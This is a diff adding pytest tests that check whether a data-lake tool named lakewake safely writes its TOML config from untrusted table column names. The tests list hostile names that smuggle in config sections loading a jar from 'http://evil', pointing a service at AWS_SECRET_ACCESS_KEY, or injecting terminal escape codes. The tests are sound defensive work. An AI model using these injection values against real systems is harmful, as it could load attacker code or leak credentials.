@@ -2,14 +2,18 @@
 
 from __future__ import annotations
 
+import json
+from dataclasses import replace
 from pathlib import Path
 
 import pytest
 
+from lakewake.cli import run
 from lakewake.config import load_config, parse_config
 from lakewake.errors import ConfigError
 from lakewake.init import PAYLOAD, draft_config, guess, index_name, render
 from lakewake.model.recipe import TextField
+from lakewake.model.settings import Settings
 from lakewake.model.timeline import Look, TableIdentity
 
 FILE = Path("/proj/lakewake.toml")
@@ -146,3 +150,88 @@ def test_a_file_that_is_there_is_kept_unless_told_otherwise(tmp_path: Path):
 def test_a_folder_that_is_not_there_is_named(tmp_path: Path):
     with pytest.raises(ConfigError, match="cannot be written"):
         draft_config("t", look(WINES), tmp_path / "no" / "lakewake.toml")
+
+
+#: Column names of a table that somebody else wrote.
+HOSTILE = (
+    'title"\n[spark]\njars = "http://evil/x.jar"\n#',
+    "title\n[recommend]\nurl = 'http://evil'\nkey_env = 'AWS_SECRET_ACCESS_KEY'\n#",
+    "description\r[serve]\rhost = '0.0.0.0'",
+    "\x1b]0;owned\x07\x1b[2J_text",
+    "note_\u202ereversed\u2066\u200b",
+    "a]\nuntested_schemes = true\n#",
+    "back\\slash\\u0022_text",
+    "comment\u2028\u0085\x00\x7f",
+    "text}. {other",
+    "text!r",
+    "text:>10",
+    "a.b_text",
+    "tick`text",
+    "\ud800half_text",
+    " ",
+    "'''text",
+    '"""text',
+)
+
+
+@pytest.mark.parametrize("place", ["column", "key", "partition", "ordering"])
+@pytest.mark.parametrize("name", HOSTILE)
+def test_nothing_in_a_table_can_add_to_the_file(name: str, place: str, tmp_path: Path):
+    found = look({"title": '"string"', name: '"string"', f"{name}_n": '"long"', "v": FLOATS})
+    properties = {"hoodie.table.ordering.fields": name if place == "ordering" else "ts"}
+    key, partition = (name if place == p else "" for p in ("key", "partition"))
+    identity = TableIdentity(name, key, partition, name if place == "column" else "COPY_ON_WRITE")
+    file = tmp_path / "lakewake.toml"
+    drafted = draft_config("t", replace(found, table=identity, properties=properties), file)
+    text = file.read_text()
+    settings = load_config(file, env={})
+    assert settings == Settings(settings.path, settings.indexes)
+    (index,) = settings.indexes
+    assert index.fields[0].columns == drafted.text
+    assert index.payload == drafted.payload
+    assert all(line.isprintable() for line in text.split("\n"))
+    settled = [line for line in text.splitlines() if line and not line.startswith("#")]
+    said = ["[[index]]", "name", "table", "text", "payload", "store"]
+    assert [line.split()[0] for line in settled] == said
+
+
+def test_a_path_and_a_name_of_a_person_cannot_add_to_it_either(tmp_path: Path):
+    file = tmp_path / "lakewake.toml"
+    with pytest.raises(ConfigError, match="`name` is"):
+        draft_config("t", look(WINES), file, 'w"\n[spark]')
+    assert not file.exists()
+    draft_config('t"\n[spark]\njars = "x', look(WINES), file)
+    settings = load_config(file, env={})
+    assert not settings.spark
+    assert settings.indexes[0].table.endswith('t"\n[spark]\njars = "x')
+
+
+def test_a_file_that_would_not_say_what_is_meant_is_not_written(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+):
+    monkeypatch.setattr("lakewake.init._quote", lambda text: f'"{text}"')
+    file = tmp_path / "lakewake.toml"
+    hostile = {'n"]\nstore = "lance://elsewhere"\n[spark]\njars = ["evil': '"long"', **WINES}
+    with pytest.raises(ConfigError):
+        draft_config("t", look(hostile, key=""), file)
+    assert not file.exists()
+
+
+def test_what_init_prints_of_a_hostile_table_is_shown_and_not_obeyed(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+):
+    fields = [{"name": name, "type": "string"} for name in ("id", *HOSTILE)]
+    schema = json.dumps({"type": "record", "name": "r", "fields": fields})
+    hoodie = tmp_path / "t" / ".hoodie"
+    (hoodie / "timeline").mkdir(parents=True)
+    (hoodie / "hoodie.properties").write_text(
+        "hoodie.table.name=t\nhoodie.table.type=COPY_ON_WRITE\nhoodie.table.version=9\n"
+        "hoodie.table.recordkey.fields=id\x1b[2J\n"
+        f"hoodie.table.create.schema={schema}\n"
+    )
+    monkeypatch.chdir(tmp_path)
+    for flags in ([], ["--json", "--force"]):
+        assert run(["init", "t", *flags]) == 0
+        shown = capsys.readouterr()
+        assert all(line.isprintable() for line in (shown.out + shown.err).split("\n"))
+    assert not load_config("lakewake.toml", env={}).spark
